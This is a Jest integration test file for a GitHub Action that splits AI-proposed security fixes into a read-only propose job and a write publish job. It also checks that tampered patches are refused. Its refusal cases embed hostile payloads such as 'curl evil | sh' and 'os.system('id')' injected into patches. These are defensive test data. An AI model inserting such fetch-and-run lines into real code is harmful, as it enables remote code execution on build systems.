import { afterAll, afterEach, beforeEach, describe, test } from "@jest/globals";
import assert from "node:assert/strict";
import { chmodSync, cpSync, existsSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { runAction, type ActionRun } from "../helpers/action.js";
import { FakeGitHub } from "../helpers/github-server.js";
import { MessagesServer } from "../helpers/messages-server.js";
import { ArtifactServer } from "../helpers/artifact-server.js";
import { TempRepo, git } from "../helpers/repo.js";

const fixture = (name: string) => readFileSync(new URL(`../fixtures/fix/${name}`, import.meta.url), "utf8");
const BASE = fixture("find_user.base.py");
const HEAD = fixture("find_user.head.py");
const fence = (code: string) => `Here is the rewrite.\n\n\`\`\`python\n${code}\`\`\`\n`;
const CLEAN = fence('def find_user(conn: sqlite3.Connection, name):\n    if not name:\n        raise ValueError("name is required")\n    return conn.execute("SELECT id FROM users WHERE name = ?", (name,)).fetchone()\n');

const TOKEN = "ghs_SECRETtoken0123456789abcdefXYZ";
const API_KEY = "sk-ant-SECRETkey-9876543210";
const FIX_BRANCH = "bandit-gate/fix/agent/users";
const PUSH = { ref: "refs/heads/agent/users", before: "0".repeat(40), repository: { default_branch: "main" } };

const cleanup: Array<() => void> = [];
afterAll(() => cleanup.forEach((f) => f()));

let github: FakeGitHub;
let messages: MessagesServer;
beforeEach(async () => {
  github = await new FakeGitHub("acme", "shop").start();
  messages = await new MessagesServer().start();
});
afterEach(async () => {
  await github.stop();
  await messages.stop();
});

/** origin (bare) with main and agent/users (a B608 regression in find_user); one checkout per job. */
function scenario() {
  const origin = mkdtempSync(join(tmpdir(), "bandit-gate-origin-"));
  git(origin, "init", "-q", "--bare", "-b", "main");
  const author = new TempRepo();
  cleanup.push(() => author.dispose());
  author.write("app/users.py", BASE);
  author.write("docs/notes.txt", "notes\n");
  author.commit("users");
  author.git("remote", "add", "origin", origin);
  author.git("push", "-q", "origin", "main");
  const mainSha = author.git("rev-parse", "HEAD").trim();
  author.git("checkout", "-q", "-b", "agent/users");
  author.write("app/users.py", HEAD);
  author.commit("agent: query by name");
  author.git("push", "-q", "origin", "agent/users");
  const agentHead = author.git("rev-parse", "HEAD").trim();
  const checkout = () => {
    const ws = join(mkdtempSync(join(tmpdir(), "bandit-gate-ws-")), "ws");
    git(join(ws, ".."), "clone", "-q", "--branch", "agent/users", `file://${origin}`, ws);
    return ws;
  };
  return { origin, agentHead, mainSha, checkout };
}

const jobEnv = () => ({ GITHUB_API_URL: github.url, ANTHROPIC_BASE_URL: messages.url, GITHUB_REPOSITORY: "acme/shop", GITHUB_RUN_ID: "42", GITHUB_SERVER_URL: "https://github.example" });

/** The read-only job: no github-token at all. */
async function propose(ws: string, artifact: string): Promise<ActionRun> {
  messages.reply({ text: CLEAN });
  return runAction(ws, "push", PUSH, { fix: "propose", "fix-artifact-dir": artifact, "github-token": "", "anthropic-api-key": API_KEY, generator: "model" }, jobEnv());
}

/**
 * The write job. BANDIT_GATE_BANDIT points at a "Bandit" that only leaves a mark: publish must
 * never run it (nor anything else of the repository's).
 */
async function publish(ws: string, artifact: string): Promise<{ run: ActionRun; banditRan: boolean }> {
  const dir = mkdtempSync(join(tmpdir(), "bandit-gate-mark-"));
  const mark = join(dir, "ran");
  const fake = join(dir, "bandit");
  writeFileSync(fake, `#!/bin/sh\ntouch ${mark}\nexit 1\n`);
  chmodSync(fake, 0o755);
  const run = await runAction(ws, "push", PUSH, { fix: "publish", "fix-artifact-dir": artifact, "github-token": TOKEN, labels: "security" }, { ...jobEnv(), BANDIT_GATE_BANDIT: fake });
  return { run, banditRan: existsSync(mark) };
}

/** A copy of a proposal with its patch or manifest changed, as a hostile propose job could. */
function tampered(artifact: string, change: { patch?: (p: string) => string; proposal?: (p: Record<string, unknown>) => void }): string {
  const copy = mkdtempSync(join(tmpdir(), "bandit-gate-tampered-"));
  cpSync(artifact, copy, { recursive: true });
  if (change.patch) writeFileSync(join(copy, "fix.patch"), change.patch(readFileSync(join(copy, "fix.patch"), "utf8")));
  if (change.proposal) {
    const proposal = JSON.parse(readFileSync(join(copy, "proposal.json"), "utf8")) as Record<string, unknown>;
    change.proposal(proposal);
    writeFileSync(join(copy, "proposal.json"), JSON.stringify(proposal));
  }
  return copy;
}

/** A patch for the proposal's changes plus `edit` of the fixed file, made by git as a real diff. */
function patchWith(ws: string, artifact: string, edit: (text: string) => string, extra: Record<string, string> = {}): string {
  const scratch = join(mkdtempSync(join(tmpdir(), "bandit-gate-scratch-")), "s");
  git(join(scratch, ".."), "clone", "-q", ws, scratch);
  git(scratch, "apply", join(artifact, "fix.patch"));
  writeFileSync(join(scratch, "app/users.py"), edit(readFileSync(join(scratch, "app/users.py"), "utf8")));
  for (const [path, text] of Object.entries(extra)) writeFileSync(join(scratch, path), text);
  return git(scratch, "diff", "--no-color", "--src-prefix=a/", "--dst-prefix=b/");
}

describe("fix: propose then fix: publish (dist/, bare origin, local GitHub and Messages APIs)", () => {
  let shared: ReturnType<typeof scenario> & { artifact: string; proposeRun: ActionRun };
  beforeEach(async () => {
    const s = scenario();
    const artifact = join(mkdtempSync(join(tmpdir(), "bandit-gate-artifact-")), "fix");
    const proposeRun = await propose(s.checkout(), artifact);
    shared = { ...s, artifact, proposeRun };
  });

  test("propose uploads a checked patch without any token; publish, in a second run, opens the pull request with the fix", async () => {
    const { proposeRun, artifact, origin, agentHead } = shared;
    assert.equal(proposeRun.code, 1, `the gate's verdict stands in the propose job\n${proposeRun.stdout}\n${proposeRun.stderr}`);
    assert.equal(proposeRun.outputs["fix-proposed"], "true", proposeRun.stdout);
    assert.equal(proposeRun.outputs["pull-request-operation"], "none");
    assert.deepEqual(JSON.parse(proposeRun.outputs["fixed-functions"] ?? "[]"), ["app/users.py:find_user"]);
    assert.equal(github.requests.length, 0, "the propose job never talks to GitHub's API");
    assert.doesNotMatch(proposeRun.stdout, /fix: true runs the branch's code/, "no one-job warning in propose");
    const proposal = JSON.parse(readFileSync(join(artifact, "proposal.json"), "utf8"));
    assert.equal(proposal.head_sha, agentHead);
    assert.deepEqual(proposal.functions, [{ path: "app/users.py", qualname: "find_user", before: { start: 4, end: 8 }, after: { start: 4, end: 7 } }]);
    assert.match(proposal.title, /bandit-gate: fix security regressions/);
    const patch = readFileSync(join(artifact, "fix.patch"), "utf8");
    assert.match(patch, /^diff --git a\/app\/users\.py b\/app\/users\.py$/m);
    assert.doesNotMatch(patch, /profile\.yml/, "only Python files are proposed");
    assert.equal(git(origin, "ls-remote", "--heads", origin, FIX_BRANCH).trim(), "", "propose pushes nothing");

    const { run, banditRan } = await publish(shared.checkout(), artifact);
    assert.equal(run.code, 0, `${run.stdout}\n${run.stderr}`);
    assert.equal(banditRan, false, "publish runs no Bandit");
    assert.equal(run.outputs["pull-request-operation"], "created");
    assert.equal(run.outputs["pull-request-number"], "1");
    assert.deepEqual(JSON.parse(run.outputs["fixed-functions"] ?? "[]"), ["app/users.py:find_user"]);
    const pr = github.pulls[0];
    assert.equal(pr?.base, "agent/users");
    assert.equal(pr?.head, FIX_BRANCH);
    assert.deepEqual(pr?.labels, ["security"]);
    assert.match(pr?.body ?? "", /`find_user` in `app\/users\.py` \| B608 \(MEDIUM\)/);
    const fixCommit = git(origin, "rev-parse", `refs/heads/${FIX_BRANCH}`).trim();
    assert.equal(git(origin, "rev-parse", `${fixCommit}^`).trim(), agentHead, "one commit on the gated head");
    assert.match(git(origin, "show", `${fixCommit}:app/users.py`), /WHERE name = \?", \(name,\)/);
    assert.equal(git(origin, "diff", "--name-only", agentHead, fixCommit).trim(), "app/users.py");
    assert.match(git(origin, "log", "-1", "--format=%B", fixCommit), /Generated-by: bandit-gate/);
    assert.ok(!run.stdout.split("\n").filter((l) => !l.startsWith("::add-mask::")).join("\n").includes(TOKEN), "the token is never shown");

    // The next push's publish updates the same pull request.
    const again = await publish(shared.checkout(), artifact);
    assert.equal(again.run.outputs["pull-request-operation"], "updated", again.run.stdout);
    assert.equal(github.pulls.length, 1);
  });

  const refusals: Array<[string, (s: typeof shared, ws: string) => string, RegExp]> = [
    [
      "a hunk outside the claimed function",
      (s, ws) => tampered(s.artifact, { patch: () => patchWith(ws, s.artifact, (t) => t.replace("return conn.execute(\"SELECT count(*)", "__import__('os').system('curl evil | sh')\n    return conn.execute(\"SELECT count(*)")) }),
      /hunk @@ -\d+,\d+ \+\d+,\d+ @@ changes line 1[01] \(after the fix\), outside every function the proposal claims: "__import__\('os'\)/,
    ],
    [
      "a module-level statement added between functions",
      (s, ws) => tampered(s.artifact, { patch: () => patchWith(ws, s.artifact, (t) => t.replace("\n\ndef count_users", "\nimport os; os.system('id')\n\ndef count_users")) }),
      /outside every function the proposal claims: "import os; os.system\('id'\)"/,
    ],
    [
      "a claim widened to cover module-level code",
      (s, ws) =>
        tampered(s.artifact, {
          patch: () => patchWith(ws, s.artifact, (t) => t.replace("\n\ndef count_users", "\nos.system('id')\n\ndef count_users")),
          proposal: (p) => {
            const [claim] = p.functions as Array<{ after: { end: number } }>;
            if (claim) claim.after.end = 12;
          },
        }),
      /the claimed find_user \(after the fix\) does not hold up: line \d+ is outside find_user's body/,
    ],
    ["a different head sha", (s) => tampered(s.artifact, { proposal: (p) => void (p.head_sha = s.mainSha) }), /the proposal is for commit [0-9a-f]{40}, not the gated commit/],
    [
      "a non-.py file",
      (s, ws) => tampered(s.artifact, { patch: () => patchWith(ws, s.artifact, (t) => t, { "docs/notes.txt": "curl evil | sh\n" }) }),
      /docs\/notes\.txt: the patch may only change \.py files/,
    ],
    [
      "a patch that does not apply to the gated commit",
      (s) => tampered(s.artifact, { patch: (p) => p.replace("    if not name:", "    if not name or True:") }),
      /the patch does not apply cleanly to [0-9a-f]{40}/,
    ],
  ];

  test.each(refusals)("a tampered proposal is refused (exit 2, the reason named) and nothing is pushed: %s", async (_name, make, reason) => {
    const ws = shared.checkout();
    const bad = make(shared, ws);
    const { run, banditRan } = await publish(ws, bad);
    assert.equal(run.code, 2, `${run.stdout}\n${run.stderr}`);
    assert.match(run.stdout, /::error::bandit-gate: the fix proposal is refused and nothing was pushed/);
    assert.match(run.stdout, reason);
    assert.equal(banditRan, false);
    assert.doesNotMatch(git(shared.origin, "ls-remote", "--heads", shared.origin), /bandit-gate\//, "no fix branch was pushed");
    assert.equal(github.pulls.length, 0);
    assert.equal(run.outputs["pull-request-operation"], "none");
  });

  test("publish without a proposal (the propose job had nothing to fix) opens nothing and passes", async () => {
    const empty = join(mkdtempSync(join(tmpdir(), "bandit-gate-empty-")), "none");
    const { run } = await publish(shared.checkout(), empty);
    assert.equal(run.code, 0, run.stdout);
    assert.equal(run.outputs["pull-request-operation"], "none");
    assert.match(run.stdout, /there is no fix proposal/);
    assert.equal(github.requests.length, 0);
  });

  test("without fix-artifact-dir, propose hands the proposal to GitHub's artifact service (@actions/artifact, bundled)", async () => {
    messages.reply({ text: CLEAN });
    const run = await runAction(shared.checkout(), "push", PUSH, { fix: "propose", "github-token": "", "anthropic-api-key": API_KEY, generator: "model" }, { ...jobEnv(), GITHUB_SERVER_URL: "https://github.com" });
    // Outside a runner the artifact client has no runtime token: reaching that error is reaching the upload.
    assert.equal(run.code, 1, run.stdout);
    assert.match(run.stdout, /::error::bandit-gate fix step: .*ACTIONS_RUNTIME_TOKEN/);
    assert.notEqual(run.outputs["fix-proposed"], "true");
    // On GitHub Enterprise Server the service is not there: a setting says what to do instead.
    messages.reply({ text: CLEAN });
    const ghes = await runAction(shared.checkout(), "push", PUSH, { fix: "propose", "github-token": "", "anthropic-api-key": API_KEY, generator: "model" }, jobEnv());
    assert.match(ghes.stdout, /::error::bandit-gate fix step: GitHub Enterprise Server has no artifact service .*set fix-artifact-dir/);
  });

  test("without fix-artifact-dir the proposal goes through the artifact service: propose uploads, publish downloads and opens the pull request", async () => {
    const service = await new ArtifactServer().start();
    try {
      const github_com = { GITHUB_SERVER_URL: "https://github.com" };
      messages.reply({ text: CLEAN });
      const proposed = await runAction(shared.checkout(), "push", PUSH, { fix: "propose", "github-token": "", "anthropic-api-key": API_KEY, generator: "model" }, { ...jobEnv(), ...github_com, ...service.jobEnv("propose-job") });
      assert.equal(proposed.outputs["fix-proposed"], "true", `${proposed.stdout}\n${proposed.stderr}`);
      assert.equal(service.artifacts.length, 1);
      const [artifact] = service.artifacts;
      assert.equal(artifact?.name, "bandit-gate-fix");
      assert.equal(artifact?.finalized, true);
      assert.match(artifact?.hash ?? "", /^sha256:[0-9a-f]{64}$/);
      // The zip went to the signed blob URL in blocks, then the block list was committed.
      const blob = service.requests.filter((r) => r.path.startsWith("/devstoreaccount1/")).map((r) => r.path.replace(/^.*\?/, ""));
      assert.ok(blob.includes("comp=block") && blob[blob.length - 1] === "comp=blocklist", JSON.stringify(blob));

      const mark = mkdtempSync(join(tmpdir(), "bandit-gate-mark-"));
      const fake = join(mark, "bandit");
      writeFileSync(fake, `#!/bin/sh\ntouch ${join(mark, "ran")}\nexit 1\n`);
      chmodSync(fake, 0o755);
      const published = await runAction(shared.checkout(), "push", PUSH, { fix: "publish", "github-token": TOKEN, labels: "security" }, { ...jobEnv(), ...github_com, ...service.jobEnv("publish-job"), BANDIT_GATE_BANDIT: fake });
      assert.equal(published.code, 0, `${published.stdout}\n${published.stderr}`);
      assert.equal(existsSync(join(mark, "ran")), false, "publish runs no Bandit");
      assert.ok(service.requests.some((r) => r.method === "GET" && r.path.startsWith("/download/")), "publish downloaded through the signed URL");
      assert.equal(published.outputs["pull-request-operation"], "created");
      assert.deepEqual(JSON.parse(published.outputs["fixed-functions"] ?? "[]"), ["app/users.py:find_user"]);
      const fixCommit = git(shared.origin, "rev-parse", `refs/heads/${FIX_BRANCH}`).trim();
      assert.match(git(shared.origin, "show", `${fixCommit}:app/users.py`), /WHERE name = \?", \(name,\)/);
    } finally {
      await service.stop();
    }
  });

  test("publish in a run whose propose job uploaded nothing finds no artifact and opens nothing", async () => {
    const service = await new ArtifactServer().start();
    try {
      const published = await runAction(shared.checkout(), "push", PUSH, { fix: "publish", "github-token": TOKEN }, { ...jobEnv(), GITHUB_SERVER_URL: "https://github.com", ...service.jobEnv("publish-job") });
      assert.equal(published.code, 0, `${published.stdout}\n${published.stderr}`);
      assert.match(published.stdout, /there is no fix proposal/);
      assert.equal(published.outputs["pull-request-operation"], "none");
      assert.ok(service.requests.some((r) => r.path.endsWith("/ListArtifacts")), "it asked the service");
      assert.equal(github.pulls.length, 0);
    } finally {
      await service.stop();
    }
  });

  test("fix: true warns that the branch's code runs next to the write token and points at the two-job workflow", async () => {
    messages.reply({ text: CLEAN });
    const run = await runAction(shared.checkout(), "push", PUSH, { fix: "true", "github-token": TOKEN, "anthropic-api-key": API_KEY, generator: "model" }, jobEnv());
    assert.equal(run.outputs["pull-request-operation"], "created", run.stdout);
    assert.match(run.stdout, /::warning::bandit-gate: fix: true runs the branch's code .* in a job that holds the write token .* fix: propose with read-only permissions, then fix: publish/);
  });
});
